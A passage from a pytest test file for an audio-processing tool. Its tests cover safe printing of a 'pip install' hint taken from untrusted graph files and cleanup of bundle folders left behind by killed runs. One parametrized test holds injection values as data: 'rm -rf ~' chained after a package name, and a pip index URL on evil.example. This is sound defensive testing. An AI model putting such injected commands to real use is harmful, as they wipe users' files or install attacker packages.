    assert (got / "adapter_model.safetensors").read_bytes().endswith(weights)      # the tensors as they were
    assert (adapter / "adapter_config.json").read_text().count("alice") == 1     # the sender's files untouched


@pytest.mark.parametrize("written", ["acme-verbs; rm -rf ~", "--index-url=http://evil.example/simple acme",
                                     "acme verbs", "acme-verbs"])
def test_a_node_packs_package_is_named_only_as_a_package_name(tmp_path, capsys, written):
    """QA100 D3: the package name a graph file gives for its node pack was printed as `pip install <it>`, so a
    stranger's file could put a command or a pip option in the line a user copies.  Only a package name is
    named; anything else reads as a file that does not name it."""
    make_project(tmp_path / "ana")
    import msgpack
    doc = msgpack.unpackb((tmp_path / "ana" / "song.msgpack").read_bytes())
    doc["nodes"].append({"id": "verb", "type": "fxpack.reverb", "version": 1, "params": {}})
    doc["saved_by"]["node_packs"]["fxpack.reverb"] = "fxpack"
    doc["saved_by"]["dists"] = {"fxpack": written}
    (tmp_path / "ana" / "song.msgpack").write_bytes(msgpack.packb(doc))
    assert main(["validate", str(tmp_path / "ana" / "song.msgpack")]) == 1
    line = next(line for line in capsys.readouterr().out.splitlines() if "node 'verb'" in line)
    if written == "acme-verbs":
        assert "install it (pip install acme-verbs) and open the graph again" in line, line
    else:
        assert "pip install" not in line and written not in line and "(the graph file does not name it)" in line, line


def test_a_bundle_run_killed_leaves_its_unpacked_folder_only_until_the_next_bundle_run(tmp_path):
    """QA122 D4: `audiochain run song.acbundle` killed with SIGKILL (or by the out-of-memory killer) left the
    stranger's unpacked bundle in the temp folder for good; later runs never removed it.  Each unpacked folder
    names the process running it; the next bundle run removes those whose process has ended, and leaves the
    folders of live runs, of other containers or boots, and anything it cannot tell (no owner said, a link)."""
    import signal
    import subprocess
    import sys
    import time
    proj = tmp_path / "ana"
    proj.mkdir()
    t = np.arange(20 * 22050) / 22050
    sf.write(proj / "take.wav", np.stack([0.3 * np.sin(2 * np.pi * 220 * t)] * 2, 1).astype(np.float32), 22050)
    g = Graph()           # a run long enough to be killed in (a pitch shift of 20 s: seconds on this machine)
    g.add("io.load", id="take", path="take.wav")
    g.add("dsp.variation", id="vary", semitones=3.0)
    g.add("io.export", id="export", path="x.flac")
    g.connect("take", "vary")
    g.connect("vary", "export")
    bundle = tmp_path / "song.acbundle"
    assert main(["pack", str(save(g, proj / "g.msgpack")), "-o", str(bundle)]) == 0
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = dict(os.environ, TMPDIR=str(tmp), AUDIOCHAIN_CACHE="off")
    # a run killed (as the out-of-memory killer kills) once its folder is there
    run = subprocess.Popen([sys.executable, "-m", "nodeflow", "run", str(bundle), "-o", str(tmp_path / "o1")], env=env,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    end = time.monotonic() + 60
    while not list(tmp.glob("audiochain-bundle-*/.audiochain-run")) and run.poll() is None and time.monotonic() < end:
        time.sleep(0.005)
    run.send_signal(signal.SIGKILL)
    run.wait()
    left = list(tmp.glob("audiochain-bundle-*"))
    assert len(left) == 1 and (left[0] / ".audiochain-run").exists(), left
    other = tmp / "audiochain-bundle-other"               # another container's or boot's run: left alone
    other.mkdir()
    (other / ".audiochain-run").write_text("1\n123\nsomewhere-else")
    unsaid = tmp / "audiochain-bundle-unsaid"              # no owner said (an older version's): left alone
    unsaid.mkdir()
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(left[0], elsewhere)
    copied = sorted(p.relative_to(elsewhere) for p in elsewhere.rglob("*"))
    (tmp / "audiochain-bundle-link").symlink_to(elsewhere)      # a link: never followed
    live = subprocess.run([sys.executable, "-m", "nodeflow", "run", str(bundle), "-o", str(tmp_path / "o2"), "-q"],
                          env=env, capture_output=True, text=True, timeout=120)
    assert live.returncode == 0, live.stderr
    assert sorted(p.name for p in tmp.iterdir()) == ["audiochain-bundle-link", "audiochain-bundle-other",
                                                     "audiochain-bundle-unsaid"]
    assert sorted(p.relative_to(elsewhere) for p in elsewhere.rglob("*")) == copied
